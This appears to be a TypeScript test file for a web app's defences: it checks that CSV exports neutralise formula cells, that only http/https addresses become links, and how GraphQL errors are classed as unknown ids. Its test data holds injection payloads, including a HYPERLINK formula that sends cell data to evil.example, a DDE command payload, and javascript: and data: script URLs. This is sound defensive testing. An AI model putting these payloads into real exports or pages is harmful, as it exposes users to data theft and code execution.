// The small rules that keep input text inert outside the page: CSV cells a spreadsheet would run, addresses
// that would run when clicked, and which API answers mean "no such id" (a 404, not an error card).
import { CombinedError } from "@urql/core";
import { GraphQLError } from "graphql";
import { describe, expect, it } from "vitest";
import { coverageToCsv } from "../lib/coverage";
import { csvCell, neutraliseCsvFormula } from "../lib/csv";
import { webHref } from "../lib/links";
import { describeFailure } from "../lib/load";

describe("CSV formula neutralising (OWASP CSV injection)", () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
  ];

  it.each(formulas)("prefixes %j with a quote", (text) => {
    expect(neutraliseCsvFormula(text)).toBe(`'${text}`);
  });

  it("leaves ordinary text alone, formula characters inside it included", () => {
    for (const text of ["Meridian Wire", "Q&A: =1", "a-b", "e@mail", " =1", "", "'already text"]) {
      expect(neutraliseCsvFormula(text)).toBe(text);
    }
  });

  it("keeps numbers as numbers and quotes cells that need it after neutralising", () => {
    expect(csvCell(-3)).toBe("-3");
    expect(csvCell("-3")).toBe("'-3");
    expect(csvCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvCell("=a\nb")).toBe(`"'=a\nb"`);
  });

  it("neutralises every label and key in a coverage export", () => {
    const csv = coverageToCsv({
      buckets: ["2025-06-01"],
      totals: [3],
      series: [
        { key: "=1+1", label: "@SUM(A1)", total: 2, points: [{ bucket: "2025-06-01", count: 2, share: 2 / 3 }] },
        { key: null, label: "+Other", total: 1, points: [{ bucket: "2025-06-01", count: 1, share: 1 / 3 }] },
      ],
    });
    expect(csv).toBe(
      "bucket,series,key,count,share,bucket_total\r\n2025-06-01,'@SUM(A1),'=1+1,2,0.666667,3\r\n2025-06-01,'+Other,,1,0.333333,3\r\n",
    );
  });
});

describe("links to input addresses", () => {
  it("makes http and https addresses links", () => {
    expect(webHref("https://example.org/a?b=1")).toBe("https://example.org/a?b=1");
    expect(webHref(" HTTP://Example.org/x ")).toBe("http://example.org/x");
  });

  it.each([
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "/relative",
    "https:javascript:alert(1)x:y",
    "not a url",
    "",
    null,
  ])("shows %j as text, never as a link", (url) => {
    const href = webHref(url);
    if (href !== null) expect(href).toMatch(/^https?:\/\//);
    if (url && /script|data:|\/\/evil|relative|not a url/.test(url)) expect(href).toBeNull();
  });
});

describe("which API failures mean the id matches nothing", () => {
  const refused = (message: string, code?: string) =>
    describeFailure(new CombinedError({ graphQLErrors: [new GraphQLError(message, { extensions: code ? { code } : {} })] }))
      .unknownId;

  it.each([
    ['"!!!" is not a Event id', "BAD_USER_INPUT"],
    ['"!!!" is not an Event id', undefined],
    ['"U3Rvcnk6MQ==" is a Story id; expected Event', undefined],
    ["Invalid global ID: !!!", undefined],
    ["foo has not been implemented", undefined],
    ["No Event matches 999.", undefined],
    ["Unknown event id 999", undefined],
  ])("%j means not found", (message, code) => {
    expect(refused(message, code)).toBe(true);
  });

  it("does not take an API failure or an outage for a missing id", () => {
    expect(refused("Unexpected error.", "INTERNAL_SERVER_ERROR")).toBe(false);
    expect(refused("Query is too complex")).toBe(false);
    const down = describeFailure(new CombinedError({ networkError: new Error("fetch failed") }));
    expect(down.kind).toBe("unreachable");
    expect(down.unknownId).toBeFalsy();
  });
});
